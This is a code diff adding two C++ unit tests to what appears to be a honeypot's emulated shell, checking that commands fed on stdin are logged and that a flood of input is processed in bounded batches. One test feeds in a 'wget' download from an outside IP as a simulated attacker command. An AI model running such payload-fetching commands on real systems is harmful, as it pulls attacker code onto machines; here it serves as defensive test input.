@@ -165,6 +165,31 @@ TEST(StdinMode, LinesRunWithoutPromptUntilEof) {
   EXPECT_EQ(s.term.exit_status, 0);
 }
 
+TEST(StdinMode, LinesAfterAPauseAndTheEofStillRun) {
+  ShellSession s(Distro("debian"), false);
+  s.shell->Start();
+  s.shell->Feed("wget -q http://198.51.100.5/x\necho b\necho c");
+  s.shell->Eof();
+  EXPECT_FALSE(s.term.exited);
+  s.Settle();
+  EXPECT_EQ(s.term.screen, "b\nc\n");
+  EXPECT_TRUE(s.term.exited);
+  EXPECT_EQ(s.decky.Events("command").size(), 3u);
+}
+
+TEST(Shell, AFloodOfLinesYieldsToTheLoop) {
+  ShellSession s;
+  s.shell->Start();
+  std::string flood;
+  for (int i = 0; i < 1000; ++i) flood += "echo a\r";
+  s.shell->Feed(flood);
+  EXPECT_EQ(s.decky.Events("command").size(), 100u);  // one loop tick's worth
+  s.Settle();
+  EXPECT_EQ(s.decky.Events("command").size(), 1000u);  // the rest, bounded, after the yields
+  EXPECT_EQ(s.shell->stats().bytes_in, flood.size() + 0u);
+  EXPECT_EQ(s.shell->stats().commands, 1000u);
+}
+
 TEST(Shell, TheBotScript) {
   ShellSession s;
   s.shell->Start();
